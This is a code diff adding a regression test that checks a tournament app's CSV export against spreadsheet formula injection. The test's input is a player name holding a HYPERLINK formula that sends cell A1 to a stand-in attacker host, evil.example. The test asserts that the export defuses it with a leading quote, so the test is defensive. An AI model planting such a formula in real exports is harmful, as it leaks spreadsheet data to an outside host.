@@ -92,6 +92,23 @@ def test_exports_download(organiser):
     assert organiser.get("/admin/e/t/export/exe").status_code == 404
 
 
+def test_the_csv_export_writes_a_name_a_spreadsheet_would_run_as_text(organiser):
+    """Issue 24, B7 (OWASP "CSV Injection"): the desk's CSV has a BOM so a spreadsheet opens it at a
+    click; a name beginning with = (a formula) went into it unchanged."""
+    import csv
+    import io
+
+    name = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
+    # round 3, table 1: 300 v 330, Anan wins by 30 (XW-8): spread1 -30
+    organiser.app.state.desk.store.put_result(xw(5, "t", 3, 1, name, "Anan", 300, 330), "0" * 64, "kid0", "test")
+    r = organiser.get("/admin/e/t/export/csv")
+    assert r.status_code == 200 and r.content.startswith(b"\xef\xbb\xbf")
+    rows = [x for x in csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))) if x["round"] == "3"]
+    # a single quote first (the spreadsheet shows the cell as text), then the name, readable
+    assert [(x["player1"], x["spread1"], x["winner"]) for x in rows] == [("'" + name, "-30", "Anan")]
+    assert ',"\'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")",300,' in r.content.decode("utf-8-sig")
+
+
 def test_the_stream_says_a_result_stored_after_it_began(app, client):
     store = app.state.desk.store
 
